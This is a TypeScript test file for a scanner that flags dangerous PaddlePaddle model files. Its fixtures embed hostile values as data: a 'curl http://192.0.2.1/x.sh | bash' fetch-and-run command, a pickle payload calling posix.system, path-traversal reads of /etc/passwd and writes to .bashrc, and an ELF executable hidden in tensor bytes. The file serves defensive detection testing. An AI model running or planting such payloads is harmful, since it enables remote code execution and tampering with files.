import {
  EXECUTABLE_HEADS,
  paddleProgram,
  paddleTensor,
  probeOf,
  protobuf,
  RecordingContext,
} from '@sentrascan/testkit';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { format as parameters } from '../paddle-params/index.ts';
import { format } from './index.ts';

const { message } = protobuf;

function judge(bytes: Uint8Array, name = 'model.pdmodel'): string[] {
  const { findings, gaps } = scanBytes(bytes, name);
  expect(gaps).toEqual([]);
  return findings.map(({ ruleId, severity }) => `${severity} ${ruleId}`);
}

/** A program of version 3; each operation by its id and its texts. */
function pirProgram(operations: readonly { id: string; texts?: Record<string, string> }[]): Uint8Array {
  const ops = operations.map(({ id, texts }) => ({
    '#': id,
    A: Object.entries(texts ?? {}).map(([name, text]) => ({ AT: { '#': '0.a_str', D: text }, N: name })),
    I: [{ '%': 1 }],
    O: [{ '%': 2, TT: { '#': '0.t_dtensor', D: [{ '#': '0.t_f32' }, [4], 'NCHW', [], 0] } }],
  }));
  const block = { '#': 'block_0', args: [], ops };
  const program = { regions: [{ '#': 'region_0', blocks: [block] }] };
  return Buffer.from(JSON.stringify({ base_code: { magic: 'pir', trainable: true, version: 4 }, program }));
}

describe('programs as protobufs', () => {
  const HONEST = paddleProgram([
    { type: 'feed' },
    { type: 'conv2d', attributes: { padding_algorithm: 'EXPLICIT', op_callstack: '  File "/home/a/b.py"' } },
    { type: 'load_combine', attributes: { file_path: '__params__' } },
  ]);

  it('are clean where they are honest', () => {
    expect(format.identify(probeOf(HONEST))).toBe('certain');
    expect(judge(HONEST)).toEqual([]);
    const context = new RecordingContext(HONEST);
    format.walk(context);
    expect(context.unexplained()).toEqual([]);
    expect(context.factsOf('model.info').map(({ value }) => value)).toContain('2.6.1');
  });

  it.each([
    ['medium graph/calls-registered-code', { type: 'py_func' }],
    ['medium graph/calls-registered-code', { type: 'py_layer' }],
    ['high graph/reads-file', { type: 'load_combine', attributes: { file_path: '/etc/passwd' } }],
    ['high graph/reads-file', { type: 'load', attributes: { file_path: '..\\..\\secret' } }],
    ['high graph/writes-file', { type: 'save', attributes: { file_path: '../../.bashrc' } }],
    ['high graph/writes-file', { type: 'save_combine', attributes: { file_path: 'C:\\x' } }],
    ['high graph/reads-file', { type: 'read_file', attributes: { filename: 'a.jpg' } }],
    ['medium graph/loads-native', { type: 'tensorrt_engine' }],
  ])('%s', (expected, operation) => expect(judge(paddleProgram([operation]))).toEqual([expected]));

  it.each([
    ['curl http://192.0.2.1/x.sh | bash'],
    [Buffer.from('\x80\x04cposix\nsystem\n\x8c\x0aecho inert\x85R.', 'latin1').toString('base64')],
  ])('do not hide %s among attributes', (text) => {
    const { worst } = scanBytes(paddleProgram([{ type: 'relu', attributes: { x: text } }]), 'm.pdmodel');
    expect(worst).toBe('medium');
    const pir = pirProgram([{ id: '1.relu', texts: { x: text } }]);
    expect(scanBytes(pir, 'm.json').worst).toBe('medium');
  });

  it('are searched where an attribute is no text', () => {
    const pickle = Buffer.from('\x80\x04cposix\nsystem\n\x8c\x0aecho inert\x85R.', 'latin1');
    const operation = message([1, 'x'], [2, 2], [5, pickle]);
    const block = message([1, 0], [2, 0], [4, message([3, 'relu'], [4, operation])]);
    expect(scanBytes(message([1, block]), 'm.pdmodel')).toMatchObject({ worst: 'medium', gaps: [] });
  });

  it('are found where they are cut short, and walked in every block', () => {
    const cut = HONEST.subarray(0, HONEST.length - 40);
    expect(format.identify(probeOf(cut))).toBe('certain');
    const two = Buffer.concat([HONEST, paddleProgram([{ type: 'py_func' }])]);
    expect(judge(two)).toEqual(['medium graph/calls-registered-code']);
  });

  it('hide nothing in fields that nobody knows', () => {
    expect(judge(paddleProgram([{ type: 'relu' }], [[90, 'x'.repeat(99)]]))).toEqual([
      'medium format/hides-data',
    ]);
  });

  it('are not seen in other protobufs', () => {
    const graph = message([1, message([1, 'name'], [2, 'Const'])]);
    for (const bytes of [graph, message([1, 'text']), Buffer.from('\n\ntext\n')])
      expect(format.identify(probeOf(bytes))).toBeUndefined();
  });
});

describe('programs as JSON', () => {
  it('are clean where they are honest', () => {
    const bytes = pirProgram([
      { id: '1.matmul' },
      { id: 'p' },
      { id: '2.yield' },
      { id: '1.data', texts: { name: 'x' } },
    ]);
    expect(judge(bytes, 'inference.json')).toEqual([]);
  });

  it.each([
    ['medium graph/calls-registered-code', { id: '1.py_func' }],
    ['medium graph/calls-registered-code', { id: 'pd_op.py_layer' }],
    ['high graph/reads-file', { id: '1.load_combine', texts: { file_path: '/etc/passwd' } }],
    ['low graph/needs-custom-op', { id: '3.my_op' }],
  ])('%s', (expected, operation) => {
    expect(judge(pirProgram([operation]), 'inference.json')).toEqual([expected]);
  });
});

describe('parameters', () => {
  it('are tensors one after another, explained to the last byte', () => {
    const bytes = Buffer.concat([
      paddleTensor([2, 3]),
      paddleTensor([]),
      paddleTensor([4], new Uint8Array(8), 4),
    ]);
    expect(judge(bytes, 'inference.pdiparams')).toEqual([]);
    const context = new RecordingContext(bytes);
    parameters.walk(context);
    expect(context.factsOf('tensor.index').map(({ dtype, shape }) => [dtype, shape])).toEqual([
      ['float32', [2, 3]],
      ['float32', []],
      ['float16', [4]],
    ]);
    expect(context.unexplained()).toEqual([]);
  });

  it('are gaps where they end early or go on as something else', () => {
    const short = paddleTensor([100], new Uint8Array(8));
    expect(scanBytes(short, 'a.pdiparams').gaps[0]).toMatch(/^truncated/);
    const odd = Buffer.concat([paddleTensor([2]), Buffer.from('and more')]);
    expect(scanBytes(odd, 'a.pdiparams').gaps[0]).toMatch(/^malformed/);
  });

  it('are searched', () => {
    const elf = Buffer.concat([EXECUTABLE_HEADS.elf(), Buffer.alloc(200)]);
    expect(judge(paddleTensor([elf.length], elf, 20), 'a.pdiparams')[0]).toMatch(/^high payload/);
  });
});
